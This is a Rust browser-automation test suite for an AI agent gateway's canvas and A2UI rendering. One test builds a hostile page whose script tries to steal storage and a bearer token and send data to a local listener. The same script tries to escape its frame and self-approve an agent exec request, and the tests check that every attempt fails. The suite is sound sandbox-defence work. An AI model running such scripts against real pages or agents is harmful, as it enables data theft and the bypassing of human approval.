//! What an agent shows, in a real browser: a page that reloads and answers, surfaces of A2UI in both versions, and a hostile
//! page that reaches nothing. Skips where there is no Chromium.
#![allow(clippy::unwrap_used, missing_docs)]

mod common;

use std::io::{BufRead as _, BufReader};
use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use adjutant_client::Client;
use serde_json::{Value, json};

use common::{Browser, Killed, PATIENCE, chromium, gateway};

/// A gateway, a browser, and the folder of the main session's canvas.
struct Stage {
    _gateway: Killed,
    client: Client,
    browser: Browser,
    origin: String,
    files: PathBuf,
    token: String,
    _home: tempfile::TempDir,
    _profile: tempfile::TempDir,
}

async fn stage() -> Option<Stage> {
    let Some(program) = chromium() else {
        eprintln!("skipped: there is no Chromium (sudo apt-get install chromium)");
        return None;
    };
    let (home, profile) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
    let (process, address, client) = gateway(home.path()).await;
    client.call_value("canvas.open", json!({})).await.unwrap();
    let root = home.path().join("canvas");
    let session = std::fs::read_dir(&root).unwrap().next().unwrap().unwrap();
    let files = session.path().join("files");
    std::fs::create_dir_all(&files).unwrap();
    let browser = Browser::open(&program, profile.path()).await;
    Some(Stage {
        _gateway: process,
        client,
        browser,
        origin: format!("http://{address}"),
        files,
        token: std::fs::read_to_string(home.path().join("token"))
            .unwrap()
            .trim()
            .to_owned(),
        _home: home,
        _profile: profile,
    })
}

impl Stage {
    fn write(&self, name: &str, text: &str) {
        std::fs::write(self.files.join(name), text).unwrap();
    }

    /// Opens the canvas as an operator would: asks for an address and goes there.
    async fn open(&mut self, board: &str) -> String {
        let params = json!({ "board": board });
        let opened = self.client.call_value("canvas.open", params).await.unwrap();
        let url = format!("{}{}", self.origin, opened["path"].as_str().unwrap());
        self.browser.call("Page.enable", json!({})).await;
        self.browser
            .call("Page.navigate", json!({ "url": url }))
            .await;
        self.browser.phase("connected").await;
        url
    }

    /// The frames within the page, as the browser sees them.
    async fn frames(&mut self) -> Vec<Value> {
        let tree = self.browser.call("Page.getFrameTree", json!({})).await;
        let children = tree["frameTree"]["childFrames"]
            .as_array()
            .cloned()
            .unwrap_or_default();
        children.into_iter().map(|it| it["frame"].clone()).collect()
    }

    /// Runs a script in the frame whose address contains `part`.
    async fn inside(&mut self, part: &str, script: &str) -> Option<Value> {
        let frame = self
            .frames()
            .await
            .into_iter()
            .find(|it| it["url"].as_str().is_some_and(|url| url.contains(part)))?;
        let params = json!({ "frameId": frame["id"], "worldName": "test" });
        let browser = &mut self.browser;
        let world = browser
            .try_call("Page.createIsolatedWorld", params)
            .await
            .ok()?;
        let params = json!({
            "expression": script, "contextId": world["executionContextId"], "returnByValue": true, "awaitPromise": true,
        });
        let result = browser.try_call("Runtime.evaluate", params).await.ok()?;
        Some(result["result"]["value"].clone())
    }

    /// Waits until the script says yes in that frame.
    async fn until(&mut self, part: &str, script: &str) {
        let begun = Instant::now();
        loop {
            let said = self.inside(part, script).await;
            if said == Some(json!(true)) {
                return;
            }
            if PATIENCE / 3 < begun.elapsed() {
                let shown = self
                    .inside(part, "document.documentElement.outerHTML")
                    .await;
                let frames = self.frames().await;
                panic!("not {script}: {said:?} in {shown:?}; frames {frames:?}");
            }
            tokio::time::sleep(Duration::from_millis(50)).await;
        }
    }

    /// What the agent was told, newest last.
    async fn told(&self) -> Vec<String> {
        let params = json!({ "sessionKey": "main" });
        let history = self
            .client
            .call_value("chat.history", params)
            .await
            .unwrap();
        let messages = history["messages"].as_array().cloned().unwrap_or_default();
        messages
            .iter()
            .map(|it| it["content"].to_string())
            .collect()
    }

    async fn until_told(&self, what: &str) {
        let begun = Instant::now();
        while !self.told().await.iter().any(|it| it.contains(what)) {
            assert!(
                begun.elapsed() < PATIENCE / 3,
                "not told {what}: {:?}",
                self.told().await
            );
            tokio::time::sleep(Duration::from_millis(50)).await;
        }
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_page_is_shown_reloads_and_its_button_reaches_the_agent() {
    let Some(mut stage) = stage().await else {
        return;
    };
    stage.write("style.css", "h1 { color: rgb(1, 2, 3); }");
    stage.write("app.js", "import { n } from './n.js'; document.body.dataset.module = n; fetch('data.json').then((it) => it.json()).then((it) => { document.body.dataset.data = it.a; });");
    stage.write("n.js", "export const n = 7;");
    stage.write("data.json", "{\"a\": 5}");
    stage.write(
        "index.html",
        "<!doctype html><link rel=stylesheet href=style.css><h1>one</h1><button>go</button><script src=adjutant.js></script>
         <script type=module src=app.js></script><script>
         document.querySelector('button').onclick = () => adjutant.act('confirm', { item: 3 })
           .then(() => { document.body.dataset.outcome = 'accepted'; }, (it) => { document.body.dataset.outcome = it.message; });
         </script>",
    );
    stage.open("canvas").await;
    stage
        .until("/~/", "document.querySelector('h1')?.textContent === 'one'")
        .await;
    stage
        .until(
            "/~/",
            "getComputedStyle(document.querySelector('h1')).color === 'rgb(1, 2, 3)'",
        )
        .await;
    stage
        .until(
            "/~/",
            "document.body.dataset.module === '7' && document.body.dataset.data === '5'",
        )
        .await;
    stage
        .inside("/~/", "document.querySelector('button').click()")
        .await;
    stage
        .until("/~/", "document.body.dataset.outcome === 'accepted'")
        .await;
    stage.until_told("ui action: confirm").await;

    // Live: what is written is seen, without a touch.
    stage.write("index.html", "<!doctype html><h1>two</h1>");
    stage
        .until("/~/", "document.querySelector('h1')?.textContent === 'two'")
        .await;
}

const FORM_8: &str = r#"
{"surfaceUpdate":{"surfaceId":"old","components":[{"id":"c","component":{"Column":{"children":{"explicitList":["f","b","t"]}}}},{"id":"f","component":{"TextField":{"label":{"literalString":"Name"},"text":{"path":"/name"}}}},{"id":"b","component":{"Button":{"child":"l","action":{"name":"old_sent","context":[{"key":"name","value":{"path":"/name"}}]}}}},{"id":"l","component":{"Text":{"text":{"literalString":"Send"}}}},{"id":"t","component":{"Text":{"text":{"path":"/said"}}}}]}}
{"dataModelUpdate":{"surfaceId":"old","contents":[{"key":"name","valueString":"Ada"},{"key":"said","valueString":"nothing yet"}]}}
{"beginRendering":{"surfaceId":"old","root":"c"}}
"#;
const FORM_9: &str = r#"
{"version":"v0.9","createSurface":{"surfaceId":"new","catalogId":"https://a2ui.org/specification/v0_9/catalogs/basic/catalog.json"}}
{"version":"v0.9","updateComponents":{"surfaceId":"new","components":[{"id":"root","component":"Column","children":["f","b","t"]},{"id":"f","component":"TextField","label":"Name","value":{"path":"/name"}},{"id":"b","component":"Button","child":"l","action":{"event":{"name":"new_sent","context":{"name":{"path":"/name"}}}}},{"id":"l","component":"Text","text":"Send"},{"id":"t","component":"Text","text":{"path":"/said"}}]}}
{"version":"v0.9","updateDataModel":{"surfaceId":"new","path":"/","value":{"name":"Ada","said":"nothing yet"}}}
"#;

/// Helpers that look through open shadow roots.
const DEEP: &str = "
  const all = (root) => [...root.querySelectorAll('*')].flatMap((it) => [it, ...(it.shadowRoot ? all(it.shadowRoot) : [])]);
  const words = () => all(document).filter((it) => !it.children.length).map((it) => it.textContent).join('|');
  const field = () => all(document).find((it) => it.localName === 'input' || it.localName === 'textarea');
  const button = () => all(document).find((it) => it.localName === 'button');";

#[tokio::test(flavor = "multi_thread")]
async fn surfaces_of_both_versions_are_drawn_typed_into_pressed_and_updated() {
    let Some(mut stage) = stage().await else {
        return;
    };
    let can = stage
        .client
        .call_value("a2ui.capabilities", json!({}))
        .await
        .unwrap();
    if can["renderer"] == false {
        eprintln!("skipped: this build has no renderer (it needs Node and the npm registry)");
        return;
    }
    stage.open("a2ui").await;
    let forms = [
        (
            FORM_8,
            "v08.html",
            "old_sent",
            json!({ "dataModelUpdate": {
            "surfaceId": "old", "path": "/said", "contents": [{ "key": ".", "valueString": "thank you" }] } }),
        ),
        (
            FORM_9,
            "v09.html",
            "new_sent",
            json!({ "version": "v0.9", "updateDataModel": {
            "surfaceId": "new", "path": "/said", "value": "thank you" } }),
        ),
    ];
    for (form, frame, action, answer) in forms {
        let pushed = stage
            .client
            .call_value("a2ui.push", json!({ "jsonl": form }))
            .await
            .unwrap();
        assert_eq!(
            (&pushed["accepted"], &pushed["rejected"]),
            (&json!(3), &json!([])),
            "{pushed}"
        );
        let ready = "words().includes('Send') && words().includes('nothing yet') && field()?.value === 'Ada'";
        stage.until(frame, &format!("{{ {DEEP} {ready} }}")).await;
        let typed = "const it = field(); it.value = 'Grace'; it.dispatchEvent(new Event('input', { bubbles: true, composed: true })); it.dispatchEvent(new Event('change', { bubbles: true, composed: true })); button().click();";
        stage.inside(frame, &format!("{{ {DEEP} {typed} }}")).await;
        stage.until_told(&format!("ui action: {action}")).await;
        let told = stage.told().await;
        assert!(
            told.iter()
                .any(|it| it.contains(action) && it.contains("Grace")),
            "{told:?}"
        );
        let pushed = stage
            .client
            .call_value("a2ui.push", json!({ "messages": [answer] }))
            .await
            .unwrap();
        assert_eq!(pushed["accepted"], 1, "{pushed}");
        stage
            .until(
                frame,
                &format!("{{ {DEEP} words().includes('thank you') }}"),
            )
            .await;
    }
    // A view that comes later is told the same.
    stage.open("a2ui").await;
    for frame in ["v08.html", "v09.html"] {
        stage
            .until(
                frame,
                &format!("{{ {DEEP} words().includes('thank you') }}"),
            )
            .await;
    }
}

/// A port of this machine where a page would carry things off to, and the first lines of what arrived there.
fn stranger() -> (u16, Arc<Mutex<Vec<String>>>) {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let (port, heard) = (listener.local_addr().unwrap().port(), Arc::default());
    let kept = Arc::clone(&heard);
    std::thread::spawn(move || {
        for stream in listener.incoming().flatten() {
            let kept: Arc<Mutex<Vec<String>>> = Arc::clone(&kept);
            // A browser opens connections that it then does not use.
            std::thread::spawn(move || {
                let mut line = String::new();
                drop(BufReader::new(stream).read_line(&mut line));
                if !line.is_empty() {
                    kept.lock().unwrap().push(line);
                }
            });
        }
    });
    (port, heard)
}

fn hostile(origin: &str, port: u16, token: &str) -> String {
    let script = r#"
      const origin = "ORIGIN", stranger = "http://127.0.0.1:PORT", token = "TOKEN", out = {};
      const held = (name, work) => new Promise((done) => {
        setTimeout(() => done("silent"), 3000);
        Promise.resolve().then(work).then((it) => done(it ?? "nothing"), (it) => done("refused"));
      }).then((it) => { out[name] = it; });
      const socket = (url) => new Promise((done, fail) => {
        const it = new WebSocket(url); it.onopen = () => done("OPEN"); it.onerror = it.onclose = () => fail();
      });
      const loads = (tag, src) => new Promise((done, fail) => {
        const it = document.createElement(tag); it.onload = () => done("LOADED"); it.onerror = () => fail(); it.src = src; document.body.append(it);
      });
      const frame = (src) => new Promise((done) => {
        const it = document.createElement("iframe"); it.src = src; document.body.append(it);
        setTimeout(() => { try { done(it.contentDocument ? "blank" : "framed") } catch { done("framed") } }, 700);
      });
      const call = JSON.stringify({ jsonrpc: "2.0", id: 1, method: "health", params: {} });
      const json = { "Content-Type": "application/json", Authorization: "Bearer " + token };
      const all = [
        held("cookie", () => document.cookie || "empty"),
        held("localStorage", () => localStorage.length),
        held("indexedDB", () => new Promise((done, fail) => { const it = indexedDB.open("adjutant-node"); it.onsuccess = () => done("OPEN"); it.onerror = fail; })),
        held("rpc", () => fetch(origin + "/rpc", { method: "POST", headers: json, body: call }).then((it) => it.text())),
        held("rpcNoCors", () => fetch(origin + "/rpc", { method: "POST", mode: "no-cors", body: call }).then(() => "SENT")),
        held("health", () => fetch(origin + "/healthz").then((it) => it.text())),
        held("beacon", () => navigator.sendBeacon(stranger + "/beacon", "x") ? "queued" : "refused"),
        held("rpcSocket", () => socket(origin.replace("http", "ws") + "/rpc")),
        held("framesSocket", () => socket(origin.replace("http", "ws") + "/")),
        held("liveSocket", () => socket(origin.replace("http", "ws") + "/canvas-ws/" + location.pathname.split("/")[2])),
        held("stranger", () => fetch(stranger + "/fetch", { mode: "no-cors" }).then(() => "SENT")),
        held("image", () => loads("img", stranger + "/img.png")),
        held("script", () => loads("script", stranger + "/x.js")),
        held("nodePage", () => frame(origin + "/node.html")),
        held("popup", () => window.open(stranger + "/popup") ? "OPENED" : "refused"),
        held("parent", () => window.parent.document.title),
        held("parentPath", () => window.parent.location.pathname),
        held("top", () => { window.top.location.href = stranger + "/top"; return "went"; }),
        held("worker", () => new Promise((done, fail) => { const it = new Worker(URL.createObjectURL(new Blob(["postMessage(1)"]))); it.onmessage = () => done("RUNS"); it.onerror = () => fail(); })),
        held("approve", () => adjutant.act("exec.approval.resolve", { decision: "allow" })),
      ];
      Promise.all(all).then(() => { document.body.dataset.out = JSON.stringify({ ...out, origin: self.origin }); });"#;
    let script = script
        .replace("ORIGIN", origin)
        .replace("PORT", &port.to_string())
        .replace("TOKEN", token);
    format!(
        "<!doctype html><meta http-equiv=refresh content=\"60\"><body><script src=adjutant.js></script><script>{script}</script>"
    )
}

// covers: S3
#[tokio::test(flavor = "multi_thread")]
async fn a_hostile_page_reads_no_secret_calls_nothing_and_does_not_leave() {
    let Some(mut stage) = stage().await else {
        return;
    };
    let (port, heard) = stranger();
    // Even if it had the token.
    let page = hostile(&stage.origin, port, &stage.token);
    stage.write("index.html", &page);
    let url = stage.open("canvas").await;
    stage
        .until("/~/", "Boolean(document.body.dataset.out)")
        .await;
    let out = stage
        .inside("/~/", "document.body.dataset.out")
        .await
        .unwrap();
    let out: Value = serde_json::from_str(out.as_str().unwrap()).unwrap();
    eprintln!("{out:#}");
    assert_eq!(out["origin"], "null", "it has an origin like no other");
    for name in [
        "cookie",
        "localStorage",
        "indexedDB",
        "rpc",
        "rpcNoCors",
        "health",
        "rpcSocket",
        "framesSocket",
        "liveSocket",
        "stranger",
        "image",
        "script",
        "popup",
        "parent",
        "parentPath",
        "worker",
    ] {
        assert_eq!(out[name], "refused", "{name}: {out:#}");
    }
    // A press is data, never an answer to a question.
    stage.until_told("ui action: exec.approval.resolve").await;

    // It cannot lead its own frame, nor the window, elsewhere: by an address, within the gateway, by a form. Each time the
    // browser shows its own words in the place of the page.
    let form = format!(
        "const it = document.createElement('form'); it.action = 'http://127.0.0.1:{port}/form'; it.method = 'POST';
         document.body.append(it); it.submit(); true"
    );
    let led = |to: &str| {
        format!(
            "location.href = '{to}?' + encodeURIComponent(document.body.innerHTML.slice(0, 500)); true"
        )
    };
    for leave in [
        led(&format!("http://127.0.0.1:{port}/leave")),
        led(&format!("{}/healthz", stage.origin)),
        form,
    ] {
        stage
            .browser
            .call("Page.navigate", json!({ "url": url }))
            .await;
        stage.browser.phase("connected").await;
        stage
            .until("/~/", "Boolean(document.body.dataset.out)")
            .await;
        stage.inside("/~/", &leave).await;
        let begun = Instant::now();
        while !stage
            .frames()
            .await
            .iter()
            .any(|it| it["url"] == "chrome-error://chromewebdata/")
        {
            let frames = stage.frames().await;
            assert!(begun.elapsed() < PATIENCE / 3, "{leave}: {frames:?}");
            tokio::time::sleep(Duration::from_millis(50)).await;
        }
    }
    let here = stage.browser.run("window.location.href").await;
    assert_eq!(here, url.as_str(), "the window is where it was");
    for frame in stage.frames().await {
        let at = frame["url"].as_str().unwrap_or_default().to_owned();
        assert!(
            !at.contains("/healthz") && !at.contains(&format!(":{port}")),
            "{at}"
        );
    }
    assert_eq!(
        *heard.lock().unwrap(),
        Vec::<String>::new(),
        "nothing was carried off"
    );

    // Opened in a window of its own it is within our page all the same.
    let inner = format!("{url}~/index.html");
    stage
        .browser
        .call("Page.navigate", json!({ "url": inner }))
        .await;
    stage.browser.phase("connected").await;
    let outer = stage.browser.run("document.body.dataset.board").await;
    assert_eq!(outer, "canvas");
}

/// The test can fail: the same page without our policy gets far.
#[tokio::test(flavor = "multi_thread")]
async fn the_hostile_page_is_one_where_nothing_holds_it() {
    let Some(program) = chromium() else { return };
    let (port, heard) = stranger();
    let profile = tempfile::tempdir().unwrap();
    let folder = tempfile::tempdir().unwrap();
    let page = hostile("http://127.0.0.1:1", port, "x");
    let file: &Path = &folder.path().join("index.html");
    std::fs::write(file, page).unwrap();
    let mut browser = Browser::open(&program, profile.path()).await;
    browser.call("Page.enable", json!({})).await;
    let url = format!("file://{}", file.display());
    browser.call("Page.navigate", json!({ "url": url })).await;
    let begun = Instant::now();
    while heard.lock().unwrap().is_empty() {
        assert!(
            begun.elapsed() < PATIENCE / 3,
            "the page is harmless, so it proves nothing"
        );
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
}
